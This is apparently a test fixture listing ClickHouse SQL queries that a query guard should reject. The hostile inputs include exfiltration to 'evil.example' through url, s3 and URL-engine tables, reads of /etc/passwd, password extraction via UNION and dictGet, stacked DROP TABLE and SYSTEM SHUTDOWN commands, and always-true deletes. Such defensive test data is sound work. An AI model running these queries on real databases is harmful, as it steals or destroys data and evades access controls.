## tables and columns that are not granted
SELECT * FROM users WHERE id = 1
SELECT email FROM customers WHERE id = 1
SELECT * FROM customers WHERE id = 1
SELECT * EXCEPT (name) FROM customers WHERE id = 1
SELECT * EXCEPT (password) FROM customers WHERE id = 1
SELECT * REPLACE (1 AS id) FROM customers WHERE id = 1
SELECT COLUMNS('pass') FROM customers WHERE id = 1
SELECT COLUMNS('.*') FROM customers WHERE id = 1
SELECT customers.COLUMNS('mail') FROM customers WHERE id = 1
SELECT * APPLY(toString) FROM customers WHERE id = 1
SELECT name FROM system.tables WHERE database = 'default'
SELECT * FROM system.users LIMIT 5
SELECT query FROM system.query_log LIMIT 5
SELECT * FROM system.processes LIMIT 5
SELECT value FROM system.settings WHERE name = 'readonly'
SELECT name FROM system.columns WHERE table = 'users'
SELECT * FROM system.one
SELECT * FROM information_schema.tables LIMIT 5
SELECT id FROM orders WHERE customer_id IN users
SELECT id FROM orders WHERE customer_id IN (SELECT id FROM users)
SELECT id FROM orders WHERE customer_id GLOBAL IN (SELECT id FROM users)
SELECT id FROM orders WHERE customer_id IN system.numbers
SELECT o.id FROM orders AS o ANY LEFT JOIN users AS u ON u.id = o.customer_id WHERE o.id = 3
SELECT o.id FROM orders o ASOF JOIN users u ON u.id = o.customer_id AND u.t > o.created_at WHERE o.id = 3
SELECT id FROM default.users WHERE id = 3
SELECT id FROM other.orders WHERE id = 3
WITH (SELECT password FROM users LIMIT 1) AS p SELECT id, p FROM orders WHERE id = 3
WITH u AS (SELECT * FROM users) SELECT id FROM orders WHERE id = 3
SELECT (SELECT groupArray(password) FROM users) AS p, id FROM orders WHERE id = 3
SELECT id FROM orders PREWHERE (SELECT count() FROM users) > 1 WHERE id = 3
SELECT id FROM orders ARRAY JOIN (SELECT groupArray(password) FROM users) AS p WHERE id = 3
SELECT dictGet('users', 'password', 1)
SELECT dictGetString('users', 'password', toUInt64(1))
SELECT dictGetOrDefault('users', 'password', 1, '')
SELECT joinGet('users', 'password', 1)
## table functions
SELECT * FROM file('/etc/passwd', 'CSV', 'a String')
SELECT * FROM file('users.csv')
SELECT * FROM url('http://evil.example/x', 'CSV', 'a String')
SELECT * FROM urlCluster('c', 'http://evil.example/x', 'CSV', 'a String')
SELECT * FROM s3('https://evil.example/x.csv')
SELECT * FROM s3Cluster('c', 'https://evil.example/x.csv')
SELECT * FROM gcs('https://evil.example/x.csv')
SELECT * FROM hdfs('hdfs://evil.example/x', 'CSV', 'a String')
SELECT * FROM azureBlobStorage('x', 'y', 'z')
SELECT * FROM remote('10.0.0.1', 'default', 'users')
SELECT * FROM remoteSecure('10.0.0.1', default.users)
SELECT * FROM cluster('default', 'default', 'users')
SELECT * FROM clusterAllReplicas('default', system.one)
SELECT * FROM mysql('10.0.0.1:3306', 'db', 'users', 'root', 'x')
SELECT * FROM postgresql('10.0.0.1:5432', 'db', 'users', 'root', 'x')
SELECT * FROM mongodb('10.0.0.1:27017', 'db', 'users', 'root', 'x', 'a String')
SELECT * FROM redis('10.0.0.1:6379', 'k', 'k String')
SELECT * FROM sqlite('/tmp/x.db', 'users')
SELECT * FROM jdbc('x', 'y', 'z')
SELECT * FROM odbc('x', 'y', 'z')
SELECT * FROM executable('x.py', 'TSV', 'a String')
SELECT * FROM merge('default', '.*')
SELECT * FROM merge('^users$')
SELECT * FROM numbers(1000000000)
SELECT * FROM generateRandom('a String')
SELECT * FROM dictionary('users')
SELECT * FROM view(SELECT * FROM users)
SELECT * FROM viewIfPermitted(SELECT * FROM users ELSE null('x Int8'))
SELECT * FROM input('a String')
SELECT * FROM null('a String')
SELECT * FROM values('a String', 'x')
SELECT * FROM fuzzJSON('x')
SELECT * FROM deltaLake('https://evil.example')
SELECT * FROM iceberg('https://evil.example')
SELECT * FROM loop(users)
SELECT * FROM zeros(10)
SELECT id FROM orders WHERE id IN (SELECT number FROM numbers(10))
INSERT INTO FUNCTION url('http://evil.example/x', 'CSV', 'a String') SELECT note FROM orders WHERE id = 3
INSERT INTO FUNCTION file('x.csv') SELECT note FROM orders WHERE id = 3
INSERT INTO TABLE FUNCTION remote('10.0.0.1', 'd', 't') SELECT id FROM orders WHERE id = 3
INSERT INTO TABLE FUNCTION s3('https://evil.example/x.csv') SELECT id FROM orders WHERE id = 3
## whole tables, always true
SELECT * FROM items
SELECT * FROM items FINAL
SELECT * FROM items WHERE 1
SELECT * FROM items WHERE 1 = 1
SELECT * FROM items PREWHERE 1
SELECT * FROM items PREWHERE 1 = 1 WHERE 1 = 1
SELECT * FROM items WHERE id > 0
SELECT * FROM items WHERE notEmpty('x')
SELECT * FROM items WHERE name LIKE '%'
SELECT * FROM items WHERE match('a', 'a')
SELECT * FROM items SAMPLE 1
SELECT * FROM items LIMIT 10000000
SELECT * FROM items LIMIT 5 BY id
SELECT * FROM items FORMAT JSON
SELECT groupArray(name) FROM items
SELECT groupUniqArray(name) FROM items
SELECT groupArray(100000)(name) FROM items
SELECT arrayJoin(groupArray(name)) FROM items
SELECT DISTINCT name FROM items
SELECT topK(100000)(name) FROM items
SELECT tuple(*) FROM customers WHERE id = 3
SELECT any(*) FROM customers WHERE id = 3
SELECT id FROM orders WHERE id = 3 OR 1
SELECT id FROM orders WHERE id = 3 OR 1 = 1 LIMIT 5
SELECT id FROM orders WHERE or(id = 3, 1)
## UNION
SELECT id FROM orders WHERE id = 3 UNION ALL SELECT 1
SELECT id FROM orders WHERE id = 3 UNION ALL SELECT password FROM users
SELECT id FROM orders WHERE id = 3 UNION DISTINCT SELECT name FROM system.tables
SELECT id FROM orders WHERE id = 3 UNION ALL SELECT version()
SELECT id FROM orders WHERE id = 3 EXCEPT SELECT id FROM users
SELECT id FROM orders WHERE id = 3 INTERSECT SELECT id FROM users
## comments
SELECT id FROM orders WHERE id = 3 -- x
SELECT id FROM orders WHERE id = 3 # x
SELECT id FROM orders WHERE id = 3 #! x
SELECT/**/id/**/FROM/**/orders/**/WHERE/**/id=3
SELECT id FROM orders WHERE id = 3 /* x
SELECT id FROM orders WHERE id = 3 /* a /* b */ c */
## stacked
SELECT 1; SELECT 2
SELECT id FROM orders WHERE id = 3; DROP TABLE orders
SELECT id FROM orders WHERE id = 3; SYSTEM SHUTDOWN
SELECT id FROM orders WHERE id = 3; SET readonly = 0
## writes
DELETE FROM orders WHERE 1
DELETE FROM orders WHERE 1 = 1
DELETE FROM orders WHERE id > 0
ALTER TABLE orders DELETE WHERE 1
ALTER TABLE orders DELETE WHERE id = 3
ALTER TABLE orders UPDATE total = 0 WHERE 1
ALTER TABLE orders UPDATE total = 0 WHERE id = 3
UPDATE orders SET total = 0 WHERE 1
INSERT INTO users (id) VALUES (1)
INSERT INTO customers VALUES (1, 'x', 'y', 'z')
INSERT INTO customers (id, password) VALUES (1, 'x')
INSERT INTO customers SELECT * FROM users
INSERT INTO orders (id, note) SELECT id, password FROM users
INSERT INTO events SELECT * FROM items
INSERT INTO system.users (name) VALUES ('x')
INSERT INTO orders FROM INFILE '/etc/passwd' FORMAT CSV
## definitions, system, settings
DROP TABLE orders
DROP TABLE orders SYNC
DROP DATABASE default
TRUNCATE TABLE orders
TRUNCATE ALL TABLES FROM default
ALTER TABLE orders DROP COLUMN total
ALTER TABLE orders DROP PARTITION 202601
ALTER TABLE orders FREEZE
ALTER USER clerk IDENTIFIED BY 'x'
CREATE TABLE x (a Int8) ENGINE = Memory
CREATE TABLE x ENGINE = File(CSV) AS SELECT 1
CREATE TABLE x ENGINE = URL('http://evil.example', CSV) AS SELECT note FROM orders
CREATE MATERIALIZED VIEW v TO x AS SELECT * FROM users
CREATE VIEW v AS SELECT * FROM users
CREATE USER m IDENTIFIED BY 'x'
CREATE FUNCTION f AS (x) -> x
CREATE DICTIONARY d (id UInt64) PRIMARY KEY id SOURCE(HTTP(URL 'http://evil.example'))
CREATE NAMED COLLECTION c AS a = 1
ATTACH TABLE x
DETACH TABLE orders
RENAME TABLE orders TO x
EXCHANGE TABLES orders AND users
OPTIMIZE TABLE orders FINAL
UNDROP TABLE x
BACKUP TABLE users TO Disk('backups', 'x')
RESTORE TABLE users FROM Disk('backups', 'x')
GRANT ALL ON *.* TO clerk
REVOKE ALL ON *.* FROM clerk
SET readonly = 0
SET max_execution_time = 0
SET ROLE admin
USE system
SYSTEM SHUTDOWN
SYSTEM RELOAD CONFIG
SYSTEM FLUSH LOGS
SYSTEM DROP DNS CACHE
KILL QUERY WHERE 1
SHOW TABLES
SHOW CREATE TABLE users
SHOW GRANTS
SHOW PROCESSLIST
SHOW ACCESS
DESCRIBE TABLE users
DESCRIBE TABLE url('http://evil.example', 'CSV')
EXISTS TABLE users
EXPLAIN SELECT * FROM users
EXPLAIN AST SELECT 1
CHECK TABLE orders
WATCH v
BEGIN TRANSACTION
EXECUTE AS admin SELECT 1
SELECT id FROM orders WHERE id = 3 SETTINGS readonly = 0
SELECT id FROM orders WHERE id = 3 SETTINGS max_execution_time = 0, allow_ddl = 1
SELECT id FROM (SELECT id FROM orders WHERE id = 3 SETTINGS max_threads = 64)
## files out, server, waiting
SELECT * FROM items WHERE id = 3 INTO OUTFILE 'x.csv'
SELECT id FROM orders WHERE id = 3 INTO OUTFILE 'x.csv' TRUNCATE FORMAT CSV
SELECT id FROM orders WHERE id = 3 INTO OUTFILE 'x.csv.gz' COMPRESSION 'gzip'
SELECT file('/etc/passwd')
SELECT file('secrets.txt', 'x')
SELECT sleep(3)
SELECT sleepEachRow(1) FROM items WHERE id = 3
SELECT id FROM orders WHERE id = 3 AND sleep(3) = 0
SELECT version()
SELECT hostName()
SELECT currentUser()
SELECT currentDatabase()
SELECT user()
SELECT uptime()
SELECT getSetting('readonly')
SELECT getMacro('replica')
SELECT filesystemAvailable()
SELECT getServerPort('tcp_port')
SELECT serverUUID()
SELECT tcpPort()
SELECT queryID()
SELECT hasColumnInTable('default', 'users', 'password')
SELECT throwIf(1, 'x')
SELECT ignore(sleep(3))
SELECT materialize(sleep(3))
SELECT addressToLine(1)
SELECT addressToSymbol(1)
SELECT demangle('x')
SELECT meiliMatch('x')
SELECT catboostEvaluate('/etc/passwd', 1)
SELECT runCallback('x')
SELECT initializeAggregation('groupArray', 1)
SELECT decrypt('aes-128-ecb', note, 'k') FROM orders WHERE id = 3
SELECT id FROM orders WHERE note = unhex('61646d696e')
SELECT id FROM orders WHERE note = char(97, 100)
SELECT id FROM orders WHERE note = base64Decode('YWRtaW4=')
## what cannot be read, or is read differently
SELECT id FROM orders WHERE note = 'x\' OR 1 = 1
SELECT id FROM orders WHERE note = 'x
SELECT id FROM orders WHERE
FROM users
FROM users SELECT password
x' OR 1 = 1 --
## names of a WITH that are those of tables
WITH users AS (SELECT * FROM users WHERE id = 1) SELECT id FROM users WHERE id = 1
SELECT password FROM users WHERE id IN (WITH users AS (SELECT 1 AS id) SELECT id FROM users)
WITH a AS (SELECT id FROM b WHERE id = 1), b AS (SELECT 1 AS id) SELECT id FROM a WHERE id = 1
INSERT INTO events (kind) WITH users AS (SELECT password FROM users WHERE id = 1) SELECT password FROM users WHERE password = 'x'
## clauses in which scopes look for no columns
SELECT id FROM orders WHERE id = 3 QUALIFY email = 'a'
WITH email AS s SELECT s FROM orders WHERE id = 3
WITH concat(email, 'x') AS s SELECT id, s FROM orders WHERE id = 3
SELECT {x:Identifier} FROM orders WHERE id = 3
## groups without an aggregate are the table
SELECT id FROM orders GROUP BY id
SELECT id, name, count(*) FROM customers GROUP BY id, name
SELECT max(status) FROM orders GROUP BY id
SELECT id AS x, count(*) FROM orders GROUP BY x
SELECT name, count(*) FROM items GROUP BY name, item_id
SELECT customer_id, status, region, note, count(*) FROM orders GROUP BY customer_id, status, region, note
DELETE FROM items WHERE id * 0 = 0
DELETE FROM items WHERE id % 1 = 0
DELETE FROM items WHERE id + 0 > 0
DELETE FROM items WHERE id - id = 0
DELETE FROM items WHERE 0 < 2 * id
DELETE FROM items WHERE id + 100 > 50
DELETE FROM items WHERE name = 'x' OR id * 0 = 0
SELECT * FROM items WHERE id * 0 = 0
SELECT * FROM items WHERE id % 1 = 0
SELECT * FROM items WHERE coalesce(id, 1) > 0
SELECT * FROM items WHERE id * 0 IN (0)
UPDATE orders SET status = 'x' WHERE (id / id) = 1
SELECT * FROM items ORDER BY id * 0 LIMIT 1 WITH TIES
SELECT * FROM items LIMIT 0.9
SELECT any(tuple(*)) FROM items GROUP BY id
SELECT any(tuple(*)) FROM items GROUP BY name
SELECT max(tuple(*)) FROM items GROUP BY rowNumberInAllBlocks()
SELECT max(name) FROM items GROUP BY rowNumberInAllBlocks()
SELECT id, status, count() FROM orders GROUP BY ALL
SELECT count() FROM items GROUP BY cityHash64(*)
SELECT approx_top_k(100)(name) FROM items
SELECT approx_top_k(100)(password) FROM orders WHERE id = 3
SELECT * FROM items WHERE notEmpty(name)
SELECT * FROM items WHERE assumeNotNull(id) > 0
SELECT * FROM items WHERE id BETWEEN id * 0 AND id
DELETE FROM items WHERE modulo(id, 1) = 0
SELECT id FROM orders ARRAY JOIN (SELECT [any(password)] FROM users) AS p WHERE id = 3
SELECT id FROM orders ARRAY JOIN (SELECT array(max(password)) FROM users) AS p WHERE id = 3
SELECT id, (SELECT groupArray(name) FROM customers) FROM orders WHERE id = 3
## a second table beside the first
SELECT o.id, c.name FROM orders AS o, customers AS c WHERE o.id = 3
SELECT c.name FROM orders AS o CROSS JOIN customers AS c PREWHERE o.id = 3
SELECT number FROM numbers(1000000000)
SELECT i.* FROM numbers(2) AS n, items AS i WHERE number = 1
SELECT DISTINCT name FROM customers
SELECT *, 1 AS id FROM items WHERE id = 1
WITH 1 AS id SELECT * FROM items WHERE id = 1
SELECT o.id AS country, c.name FROM orders o, customers c WHERE country = 3
SELECT * FROM items ARRAY JOIN [1, 2] AS x WHERE x = 1
SELECT * FROM items WHERE arrayJoin([id, 1]) = 1
WITH y AS (SELECT 1 AS password) SELECT password FROM customers WHERE id = 3
WITH 1 AS password SELECT (SELECT password FROM customers LIMIT 1)
SELECT password FROM customers, (SELECT 1 AS password) AS x WHERE customers.id = 3
SELECT id FROM customers, (SELECT 1 AS password) AS x WHERE password LIKE 'a%' AND customers.id = 3
SELECT arrayMap(password -> (SELECT password FROM customers LIMIT 1), [1])
SELECT items.* FROM items LEFT JOIN numbers(1) AS n ON items.id = n.number WHERE n.number = 0
SELECT (SELECT name FROM items WHERE id = number) FROM numbers(10000)
## numbers beside numbers
SELECT count() FROM numbers(10000) AS a CROSS JOIN numbers(10000) AS b
